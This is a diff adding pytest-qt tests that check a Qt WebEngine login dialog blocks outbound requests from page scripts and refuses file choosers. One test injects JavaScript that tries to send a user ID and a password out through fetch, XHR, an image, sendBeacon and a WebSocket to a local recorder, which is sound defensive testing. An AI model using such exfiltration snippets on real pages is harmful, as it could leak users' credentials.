@@ -139,3 +139,29 @@ def test_a_frame_from_another_host_is_refused(qtbot: QtBot, dialog: LoginDialog,
     assert refused.args[0].startswith(recorder.url)
     qtbot.wait(300)
     assert [path for _method, path, _body in recorder.seen if path.startswith("/framed")] == []
+
+
+def test_scripts_in_the_page_cannot_reach_another_host(
+    qtbot: QtBot, dialog: LoginDialog, recorder: Recorder
+) -> None:
+    """fetch, XHR, an image, a beacon and a WebSocket: the interceptor blocks each before it leaves."""
+    ws_url = recorder.url.replace("http://", "ws://")
+    script = (
+        f"fetch({json.dumps(recorder.url + '/fetch?user_id=DM1234')}, {{mode: 'no-cors'}}).catch(() => 0);"
+        f"var x = new XMLHttpRequest(); x.open('GET', {json.dumps(recorder.url + '/xhr')}); x.send();"
+        f"new Image().src = {json.dumps(recorder.url + '/img')};"
+        f"navigator.sendBeacon({json.dumps(recorder.url + '/beacon')}, 'password=demo1234');"
+        f"try {{ new WebSocket({json.dumps(ws_url + '/ws')}); }} catch (e) {{}}"
+        "true"
+    )
+    assert run_js(qtbot, dialog.page, script) is True
+    qtbot.waitUntil(lambda: len(dialog.interceptor.blocked) >= 5, timeout=LOAD_MS)
+    qtbot.wait(300)
+    assert recorder.seen == []
+    # Origins only: never a path or query (a blocked URL may carry what the page tried to send).
+    assert set(dialog.interceptor.blocked) == {recorder.url, ws_url}
+
+
+def test_the_page_gets_no_file_chooser(dialog: LoginDialog) -> None:
+    chosen = dialog.page.chooseFiles(QWebEnginePage.FileSelectionMode.FileSelectOpen, [], [])
+    assert chosen == []
